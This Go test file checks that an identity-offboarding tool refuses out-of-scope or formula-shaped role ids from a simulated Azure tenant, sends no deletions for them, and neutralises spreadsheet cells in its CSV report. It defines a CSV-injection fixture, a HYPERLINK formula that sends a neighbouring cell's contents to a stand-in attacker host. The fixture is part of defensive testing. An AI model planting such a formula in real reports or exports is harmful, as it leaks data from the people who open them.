package main

// Ids the services hand out that are shaped right but do not belong (issue
// 24, items 4 and 10): an ARM assignment outside the scopes the run lists,
// role definition ids and directory scope ids that are formulas. Each is
// a failed row, "unexpected id from the service", no request is sent for
// it, and no cell of report.csv begins with what a spreadsheet runs.

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/offboard/offboard/job"
	"github.com/offboard/offboard/simtenant"
)

// The hostile texts: a link that sends the next cell away, and a sum.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?d="&A2,"Global Administrator")`
	formula   = "=1+2"
)

// armListed is an ARM listing's entry: a role assignment's or, with
// memberType, an eligibility schedule's.
func armListed(id, principal, principalType, role, scope, memberType string) map[string]any {
	props := map[string]any{"principalId": principal, "principalType": principalType, "roleDefinitionId": role, "scope": scope}
	typ := "Microsoft.Authorization/roleAssignments"
	if memberType != "" {
		props["memberType"], props["status"] = memberType, "Provisioned"
		typ = "Microsoft.Authorization/roleEligibilitySchedules"
	}
	return map[string]any{"id": id, "name": id[strings.LastIndex(id, "/")+1:], "type": typ, "properties": props}
}

// noFormulaCells fails the test for any cell of report.csv a spreadsheet
// would run.
func noFormulaCells(t *testing.T, rows []row) {
	t.Helper()
	for _, r := range rows {
		for col, c := range r {
			if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
				t.Errorf("cell %s begins with %q: %q", col, c[0], c)
			}
		}
	}
}

// wantRefused checks that the row of id is a failed row with the detail
// of an unexpected id.
func wantRefused(t *testing.T, got map[string]row, id string) {
	t.Helper()
	if row := got[id]; row["status"] != "failed" || row["detail"] != job.UnexpectedID {
		t.Errorf("the row of %s: %v, want failed, %q", id, row, job.UnexpectedID)
	}
}

// TestARMListingAnotherSubscriptionIsAFailedRowNotADelete: with
// --azure-scopes S1, a listing that hands out the principal's assignments
// in S2 (at S2, and at one of its resource groups; id and
// properties.scope agree, so the shape alone passes) gets failed rows and
// no DELETE; what lies at, below (a resource group named in other
// scripts) and above S1 (its management group) is removed.
func TestARMListingAnotherSubscriptionIsAFailedRowNotADelete(t *testing.T) {
	t.Parallel()
	a := startAzureTenant(t, simtenant.Config{Seed: 2404})
	user, _ := a.user("ines@contoso.com", 0)
	rgS2 := a.AddResourceGroup(a.sub2, "rg-other")
	rgUni := a.AddResourceGroup(a.sub1, "rg-münchen-東京")
	atS1 := a.assign(user, a.s1, simtenant.ARMOwner)
	atUni := a.assign(user, rgUni, simtenant.ARMContributor)
	atMG := a.assign(user, a.mg, simtenant.ARMReader)
	atS2 := a.assign(user, a.s2, simtenant.ARMOwner)
	atRGS2 := a.assign(user, rgS2, simtenant.ARMContributor)
	var listed []map[string]any
	for _, id := range []string{atS1, atUni, atMG, atS2, atRGS2} {
		ra, _ := a.ARMRoleAssignment(id)
		listed = append(listed, armListed(id, user, "User", ra.RoleDefinitionID, ra.Scope, ""))
	}
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.s1 + "/providers/Microsoft.Authorization/roleAssignments",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, listed, "", "")})

	dir := t.TempDir()
	env := []string{"OFFBOARD_ARM_ENDPOINT=" + a.url, "OFFBOARD_SOURCES=azure"}
	r := a.offboard(t, env, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir, "--azure-scopes", a.s1)
	wantCode(t, r, 1)
	rows := readReport(t, dir)
	got := byAssignment(rows)
	for _, id := range []string{atS2, atRGS2} {
		wantRefused(t, got, id)
		if _, ok := a.ARMRoleAssignment(id); !ok {
			t.Errorf("%s, in another subscription, was deleted", id)
		}
	}
	for _, id := range []string{atS1, atUni, atMG} {
		if got[id]["status"] != "removed" {
			t.Errorf("the row of %s: %v, want removed", id, got[id])
		}
	}
	for _, w := range a.writes() {
		if strings.Contains(strings.ToLower(w.Path), a.sub2) {
			t.Errorf("a write was sent into the other subscription: %s %s", w.Method, w.Path)
		}
	}
	noFormulaCells(t, rows)
}

// TestARMManagementGroupListingASubscriptionOutsideIt: with
// --azure-scopes {management group}, a listing at the group that hands
// out an assignment in a subscription its descendants do not hold gets a
// failed row and no DELETE; one in a subscription below it is removed.
func TestARMManagementGroupListingASubscriptionOutsideIt(t *testing.T) {
	t.Parallel()
	a := startAzureTenant(t, simtenant.Config{Seed: 2405})
	user, _ := a.user("jon@contoso.com", 0)
	other := a.NewID()
	a.AddManagementGroup(other, "")
	s3 := a.AddSubscription(simtenant.ARMSubscription{ManagementGroup: other})
	atS3 := a.assign(user, s3.Scope(), simtenant.ARMOwner)
	atS1 := a.assign(user, a.s1, simtenant.ARMOwner)
	var listed []map[string]any
	for _, id := range []string{atS3, atS1} {
		ra, _ := a.ARMRoleAssignment(id)
		listed = append(listed, armListed(id, user, "User", ra.RoleDefinitionID, ra.Scope, ""))
	}
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.mg + "/providers/Microsoft.Authorization/roleAssignments",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, listed, "", "")})

	dir := t.TempDir()
	env := []string{"OFFBOARD_ARM_ENDPOINT=" + a.url, "OFFBOARD_SOURCES=azure"}
	r := a.offboard(t, env, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir, "--azure-scopes", a.mg)
	wantCode(t, r, 1)
	got := byAssignment(readReport(t, dir))
	wantRefused(t, got, atS3)
	if _, ok := a.ARMRoleAssignment(atS3); !ok {
		t.Errorf("%s, outside the management group, was deleted", atS3)
	}
	if got[atS1]["status"] != "removed" {
		t.Errorf("the row of %s: %v, want removed", atS1, got[atS1])
	}
	for _, w := range a.writes() {
		if strings.Contains(strings.ToLower(w.Path), s3.ID) {
			t.Errorf("a write was sent into the subscription outside: %s %s", w.Method, w.Path)
		}
	}
}

// TestARMRoleDefinitionFormulaIsAFailedRow: an ARM role assignment listed
// with a formula as its roleDefinitionId, and eligibilities listed with a
// formula, and in another subscription: failed rows, no request at all,
// the cells neutralised.
func TestARMRoleDefinitionFormulaIsAFailedRow(t *testing.T) {
	t.Parallel()
	a := startAzureTenant(t, simtenant.Config{Seed: 2406})
	user, _ := a.user("kim@contoso.com", 0)
	ra := a.assign(user, a.s1, simtenant.ARMOwner)
	elig := a.AddARMEligibilitySchedule(simtenant.ARMEligibilitySchedule{PrincipalID: user, Scope: a.s1,
		RoleDefinitionID: simtenant.ARMRoleDefinitionID(a.s1, simtenant.ARMOwner)})
	away := a.AddARMEligibilitySchedule(simtenant.ARMEligibilitySchedule{PrincipalID: user, Scope: a.s2,
		RoleDefinitionID: simtenant.ARMRoleDefinitionID(a.s2, simtenant.ARMReader)})
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.s1 + "/providers/Microsoft.Authorization/roleAssignments",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, []map[string]any{
			armListed(ra, user, "User", hyperlink, a.s1, ""),
		}, "", "")})
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.s1 + "/providers/Microsoft.Authorization/roleEligibilitySchedules",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, []map[string]any{
			armListed(elig.ID, user, "User", formula, a.s1, "Direct"),
			armListed(away.ID, user, "User", away.RoleDefinitionID, a.s2, "Direct"),
		}, "", "")})

	dir := t.TempDir()
	env := []string{"OFFBOARD_ARM_ENDPOINT=" + a.url, "OFFBOARD_SOURCES=azure"}
	r := a.offboard(t, env, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir, "--azure-scopes", a.s1)
	wantCode(t, r, 1)
	rows := readReport(t, dir)
	got := byAssignment(rows)
	for _, id := range []string{ra, elig.ID, away.ID} {
		wantRefused(t, got, id)
	}
	if c := got[ra]["role_definition_id"]; c != "'"+hyperlink {
		t.Errorf("role_definition_id = %q, want it neutralised", c)
	}
	if w := a.writes(); len(w) != 0 {
		t.Errorf("%d writes sent, the first %s %s", len(w), w[0].Method, w[0].Path)
	}
	for _, q := range a.Requests() {
		if strings.Contains(q.Path, "HYPERLINK") || strings.Contains(q.Path, "=1+2") {
			t.Errorf("a request was sent to a formula: %s %s", q.Method, q.Path)
		}
	}
	noFormulaCells(t, rows)
}

// TestGraphRoleIDFormulasAreFailedRows: a directory role assignment and
// a PIM eligibility listed with a formula as roleDefinitionId and as
// directoryScopeId: failed rows, nothing sent for them (no DELETE, no
// adminRemove carrying the formula), the cells neutralised.
func TestGraphRoleIDFormulasAreFailedRows(t *testing.T) {
	t.Parallel()
	tn := startTenant(t, simtenant.Config{Seed: 2407})
	user, _ := tn.user("lea@contoso.com", 0)
	ra := tn.AddRoleAssignment(simtenant.RoleAssignment{PrincipalID: user, RoleDefinitionID: simtenant.UserAdministrator, DirectoryScopeID: "/"})
	ra2 := tn.AddRoleAssignment(simtenant.RoleAssignment{PrincipalID: user, RoleDefinitionID: simtenant.UserAdministrator, DirectoryScopeID: "/"})
	el := tn.AddEligibility(simtenant.EligibilitySchedule{PrincipalID: user, RoleDefinitionID: simtenant.UserAdministrator})
	tn.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: "/roleManagement/directory/roleAssignments",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, []map[string]any{
			{"id": ra.ID, "principalId": user, "roleDefinitionId": hyperlink, "directoryScopeId": "/"},
			{"id": ra2.ID, "principalId": user, "roleDefinitionId": simtenant.UserAdministrator, "directoryScopeId": formula},
		}, "", "")})
	tn.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: "/roleManagement/directory/roleEligibilitySchedules",
		QueryContains: user, Status: http.StatusOK, Body: listingPage(t, []map[string]any{
			{"id": el.ID, "principalId": user, "roleDefinitionId": hyperlink, "directoryScopeId": formula,
				"memberType": "Direct", "status": "Provisioned"},
		}, "", "")})
	dir := t.TempDir()
	r := tn.offboard(t, []string{"OFFBOARD_SOURCES=directory,pim"}, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir)
	wantCode(t, r, 1)
	rows := readReport(t, dir)
	got := byAssignment(rows)
	for _, id := range []string{ra.ID, ra2.ID, el.ID} {
		wantRefused(t, got, id)
	}
	if c := got[ra.ID]["role_definition_id"]; c != "'"+hyperlink {
		t.Errorf("role_definition_id = %q, want it neutralised", c)
	}
	if c := got[ra2.ID]["scope"]; c != "'"+formula {
		t.Errorf("scope = %q, want it neutralised", c)
	}
	if w := tn.writes(); len(w) != 0 {
		t.Errorf("%d writes sent, the first %s %s %s", len(w), w[0].Method, w[0].Path, w[0].Body)
	}
	noFormulaCells(t, rows)
}

// TestAzureGroupMembershipWithRefusedRoleIDsFails: the groups holding
// Azure roles, as ARM's unfiltered listing at S1 names them: one whose
// only assignment is in S2, one whose role definition id is a formula.
// The principal's memberships of them are failed rows: no membership is
// removed on their account, and the formula is never made a GET's path.
// A group holding a true role at S1 is left as it should be: removed.
func TestAzureGroupMembershipWithRefusedRoleIDsFails(t *testing.T) {
	t.Parallel()
	a := startAzureTenant(t, simtenant.Config{Seed: 2408})
	user, _ := a.user("max@contoso.com", 0)
	away := a.AddGroup(simtenant.Group{DisplayName: "S2 Owners"})
	linked := a.AddGroup(simtenant.Group{DisplayName: hyperlink})
	real := a.AddGroup(simtenant.Group{DisplayName: "S1 Readers"})
	for _, g := range []string{away.ID, linked.ID, real.ID} {
		if err := a.AddMember(g, user); err != nil {
			t.Fatal(err)
		}
	}
	name := func() string { return a.NewID() }
	ra := "/providers/Microsoft.Authorization/roleAssignments/"
	reader := simtenant.ARMRoleDefinitionID(a.s1, simtenant.ARMReader)
	// The principal's own listing goes to the tenant; the unfiltered
	// listing of the groups holding roles is scripted.
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.s1 + "/providers/Microsoft.Authorization/roleAssignments",
		QueryContains: user})
	a.AddRule(simtenant.Rule{Method: http.MethodGet, PathContains: a.s1 + "/providers/Microsoft.Authorization/roleAssignments",
		Status: http.StatusOK, Body: listingPage(t, []map[string]any{
			armListed(a.s2+ra+name(), away.ID, "Group", simtenant.ARMRoleDefinitionID(a.s2, simtenant.ARMOwner), a.s2, ""),
			armListed(a.s1+ra+name(), linked.ID, "Group", hyperlink, a.s1, ""),
			armListed(a.s1+ra+name(), real.ID, "Group", reader, a.s1, ""),
		}, "", "")})

	dir := t.TempDir()
	env := []string{"OFFBOARD_ARM_ENDPOINT=" + a.url}
	r := a.offboard(t, env, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir,
		"--sources", "groups,azure", "--azure-scopes", a.s1)
	wantCode(t, r, 1)
	rows := readReport(t, dir)
	got := byAssignment(rows)
	for _, g := range []string{away.ID, linked.ID} {
		wantRefused(t, got, g)
		if !slices.Contains(a.Members(g), user) {
			t.Errorf("the membership of group %s was removed", g)
		}
	}
	if got[real.ID]["status"] != "removed" {
		t.Errorf("the membership of the group holding Reader at S1: %v, want removed", got[real.ID])
	}
	for _, w := range a.writes() {
		if strings.Contains(w.Path, away.ID) || strings.Contains(w.Path, linked.ID) {
			t.Errorf("a write was sent for a refused group: %s %s", w.Method, w.Path)
		}
	}
	for _, q := range a.Requests() {
		if strings.Contains(q.Path, "HYPERLINK") {
			t.Errorf("a request was sent to a formula: %s %s", q.Method, q.Path)
		}
	}
	noFormulaCells(t, rows)
}

// TestGroupDisplayNameFormulaNeverLeadsACell: role-assignable groups and
// PIM for Groups schedules whose group is named with a formula: the name
// reaches the detail only after the words that say what the access is
// (and a detail that began with it would be neutralised). No way in
// before issue 24 either: this holds it.
func TestGroupDisplayNameFormulaNeverLeadsACell(t *testing.T) {
	t.Parallel()
	tn := startTenant(t, simtenant.Config{Seed: 2409})
	user, _ := tn.user("nia@contoso.com", 0)
	g := tn.AddGroup(simtenant.Group{DisplayName: hyperlink, IsAssignableToRole: true})
	if err := tn.AddMember(g.ID, user); err != nil {
		t.Fatal(err)
	}
	tn.AddGroupSchedule(simtenant.GroupSchedule{GroupID: g.ID, PrincipalID: user, AccessID: simtenant.AccessOwner})
	dir := t.TempDir()
	r := tn.offboard(t, []string{"OFFBOARD_SOURCES=groups"}, "run", "--input", writeCSV(t, "principal_id", user), "--report", dir)
	wantCode(t, r, 0)
	rows := readReport(t, dir)
	if len(rows) < 2 {
		t.Fatalf("rows: %v, want the membership and the eligible ownership", rows)
	}
	noFormulaCells(t, rows)
}
